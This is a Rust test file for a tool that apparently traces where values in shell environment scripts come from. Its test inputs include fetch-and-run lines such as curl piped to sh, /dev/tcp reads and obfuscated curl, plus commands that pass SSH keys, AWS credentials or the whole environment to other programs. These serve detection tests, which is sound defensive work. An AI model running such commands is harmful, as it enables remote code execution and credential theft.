//! Where what is not known comes from.

use std::collections::BTreeSet;

use proofmark_envrc::{Action, OriginKind, Trace, Value};

use crate::{calls, whole};

/// Kinds of origins as words, a `!` behind those that are secret.
fn kinds(value: &Value) -> Vec<String> {
    let kinds: BTreeSet<String> = value
        .origins()
        .into_iter()
        .map(|origin| {
            let kind = match &origin.kind {
                OriginKind::Environment(name) => format!("${name}"),
                OriginKind::WholeEnvironment => "environment".to_owned(),
                OriginKind::Network => "network".to_owned(),
                OriginKind::File(path) => path.clone(),
                OriginKind::Output(name) => format!("{name}()"),
                other => format!("{other:?}"),
            };
            if origin.secret { format!("{kind}!") } else { kind }
        })
        .collect();
    kinds.into_iter().collect()
}

fn code(trace: &Trace) -> Value {
    let code =
        |action: &Action| if let Action::Code { code, .. } = action { Some(code.clone()) } else { None };
    trace.events.iter().find_map(|event| code(&event.action)).unwrap()
}

#[test]
fn what_runs_comes_from_the_network() {
    for text in [
        "curl -s u | sh",
        "curl -s u | base64 -d | bash",
        "eval \"$(curl -s u)\"",
        "x=$(wget -qO- u); eval \"$x\"",
        "source <(curl u)",
        "bash <(curl u)",
        "sh -c \"$(curl u)\"",
        "curl -o x u; . ./x",
        "curl -sSLo x u && bash x",
        "wget -O x u; sh ./x",
        "curl u > x; chmod +x x; ./x",
        "f() { curl u; }; f | sh",
        "c=cu; ${c}rl u | sh",
        "curl u | python3 -",
        "curl u | tee x | sh",
        "source_url u",
        "eval \"$(cat < /dev/tcp/h/80)\"",
        "exec 3<>/dev/tcp/h/80; bash < /dev/tcp/h/80",
        "echo u | xargs curl | sh",
        "read -r x < <(curl u); eval \"$x\"",
        "mapfile -t a < <(curl u); eval \"${a[0]}\"",
        "while read -r l; do eval \"$l\"; done < <(curl u)",
    ] {
        assert!(
            kinds(&code(&whole(text))).contains(&"network".to_owned()),
            "{text}: {:?}",
            code(&whole(text))
        );
    }
}

#[test]
fn what_runs_does_not_come_from_the_network() {
    for text in
        ["eval \"$(mise env)\"", "eval \"$(direnv hook bash)\"", "curl u; bash x", "curl u > y; bash x"]
    {
        assert!(!kinds(&code(&whole(text))).contains(&"network".to_owned()), "{text}");
    }
}

#[test]
fn what_a_command_is_given() {
    for (text, argument) in [
        ("a \"$TOKEN\"", &["$TOKEN!"][..]),
        ("x=$TOKEN; a \"h/$x\"", &["$TOKEN!"]),
        ("a \"$(op read op://a/b/c)\"", &["op()!"]),
        ("a \"$(cat ~/.ssh/id_rsa)\"", &["$HOME", "${HOME}/.ssh/id_rsa!"]),
        ("a \"$(base64 < ~/.aws/credentials)\"", &["$HOME", "${HOME}/.aws/credentials!", "base64()"]),
        ("a \"$(env)\"", &["environment!"]),
        ("a \"$(export -p | gzip | base64)\"", &["base64()", "environment!", "gzip()"]),
        ("a \"$(hostname)\"", &["hostname()"]),
        ("a \"${TOKEN:0:4}\"", &["$TOKEN!"]),
        ("a \"${TOKEN//x/y}\"", &["$TOKEN!"]),
        ("n=TOKEN; a \"${!n}\"", &["$TOKEN!"]),
        ("read -r x < ~/.netrc; a \"$x\"", &["$HOME", "${HOME}/.netrc!", "Input"]),
        ("for x in TOKEN; do a \"${!x}\"; done", &["$TOKEN!"]),
        ("f() { a \"$1\"; }; f \"$TOKEN\"", &["$TOKEN!"]),
        ("x=(1 \"$TOKEN\"); a \"${x[@]:1}\"", &["$TOKEN!"]),
        ("printf -v x '%s' \"$TOKEN\"; a \"$x\"", &["$TOKEN!"]),
        ("a plain", &[]),
    ] {
        let trace = whole(text);
        let call = calls(&trace).into_iter().find(|call| call.name.as_known() == Some("a")).unwrap();
        assert_eq!(kinds(&call.arguments[0]), argument, "{text}");
    }
}

#[test]
fn what_a_command_reads() {
    for (text, input) in [
        ("env | a", &["environment!"][..]),
        ("a < ~/.ssh/id_rsa", &["$HOME", "${HOME}/.ssh/id_rsa!"]),
        ("a <<< \"$TOKEN\"", &["$TOKEN!"]),
        ("a <<E\nx $TOKEN\nE\n", &["$TOKEN!"]),
        ("a <<'E'\nx $TOKEN\nE\n", &[]),
        ("{ echo 1; printenv; } | a", &["environment!"]),
        ("set | a", &["environment!"]),
        ("declare -p | a", &["environment!"]),
    ] {
        let trace = whole(text);
        let call = calls(&trace).into_iter().find(|call| call.name.as_known() == Some("a")).unwrap();
        assert_eq!(kinds(&call.stdin), input, "{text}");
    }
}

#[test]
fn files_that_are_opened() {
    let trace = whole("echo \"$TOKEN\" >> ~/.bashrc; a > /dev/tcp/h/80 2> e; b < i");
    let opened: Vec<_> = trace
        .events
        .iter()
        .filter_map(|event| match &event.action {
            Action::Open { writes, path, data } => Some((*writes, path.shapes().join("|"), data.is_secret())),
            _ => None,
        })
        .collect();
    let expected = [
        (true, "${HOME}/.bashrc", true),
        (true, "e", false),
        (true, "/dev/tcp/h/80", false),
        (false, "i", false),
    ];
    let expected: Vec<_> =
        expected.iter().map(|(writes, path, secret)| (*writes, (*path).to_owned(), *secret)).collect();
    assert_eq!(opened, expected);
}
